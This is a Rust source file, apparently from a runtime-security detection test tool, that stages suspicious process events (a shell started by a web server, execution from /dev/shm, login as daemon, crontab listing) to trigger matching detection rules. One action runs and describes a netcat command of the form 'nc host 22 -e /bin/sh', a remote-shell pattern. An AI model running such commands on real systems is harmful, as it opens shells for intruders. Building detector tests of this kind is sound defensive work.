//! Running what should not be run, or from where it should not.

use std::process::Command;

use anyhow::Result;

use crate::action::{Action, Place};
use crate::network::NAME;
use crate::stage::{Doer, Outside, Stage, act};

pub(super) const ACTIONS: &[Action] = &[
    Action {
        name: "DbProgramSpawnedProcess",
        does: "a program called `mysqld` starts `/usr/bin/ls`",
        place: Place::Container,
        by: "ls",
        upstream: "DB program spawned process",
        ours: &["Program started by a database"],
        perform: program_of_a_database,
    },
    Action {
        name: "RunShellUntrusted",
        does: "a program called `httpd` starts `sh -c \"ls > /dev/null\"`",
        place: Place::Container,
        by: "sh",
        upstream: "Run shell untrusted",
        ours: &["Shell started by a web server"],
        perform: shell_of_a_web_server,
    },
    Action {
        name: "SystemUserInteractive",
        does: "`login` started by the user `daemon`",
        place: Place::Host,
        by: "login",
        upstream: "System user interactive",
        ours: &["Login program started by a system account"],
        perform: login_as_daemon,
    },
    Action {
        name: "ExecutionFromDevShm",
        does: "`sh -c` of a script in `/dev/shm`",
        place: Place::Host,
        by: "sh",
        upstream: "Execution from /dev/shm",
        ours: &["Program run from shared memory"],
        perform: script_in_shared_memory,
    },
    Action {
        name: "NetcatRemoteCodeExecutionInContainer",
        does: "`nc example.com 22 -e /bin/sh`",
        place: Place::Container,
        by: "nc",
        upstream: "Netcat Remote Code Execution in Container",
        ours: &["Netcat runs a program"],
        perform: netcat,
    },
    Action {
        name: "ScheduleCronJobs",
        does: "`crontab -l`",
        place: Place::Host,
        by: "crontab",
        upstream: "Schedule Cron Jobs",
        ours: &["Table of timed jobs shown or changed"],
        perform: crontab,
    },
];

fn program_of_a_database(stage: &Stage) -> Result<Doer> {
    stage.contain(&["mysqld", "-e", "system('/usr/bin/ls'); exit 0"])
}

fn shell_of_a_web_server(stage: &Stage) -> Result<Doer> {
    stage.contain(&["httpd", "-e", "system('sh', '-c', 'ls > /dev/null'); exit 0"])
}

fn login_as_daemon(_: &Stage) -> Result<Doer> {
    act(Command::new("setpriv").args(["--reuid=daemon", "--clear-groups", "login"]))
}

fn script_in_shared_memory(_: &Stage) -> Result<Doer> {
    let name = format!("/dev/shm/vigie-actions-{}", std::process::id());
    let script = Outside::program(&name, "#!/bin/sh\nexit 0\n")?;
    act(Command::new("sh").arg("-c").arg(script.path()))
}

fn netcat(stage: &Stage) -> Result<Doer> {
    stage.contain_on_network(&["nc", "-w", "1", NAME, "22", "-e", "/bin/sh"])
}

fn crontab(_: &Stage) -> Result<Doer> {
    act(Command::new("crontab").arg("-l"))
}
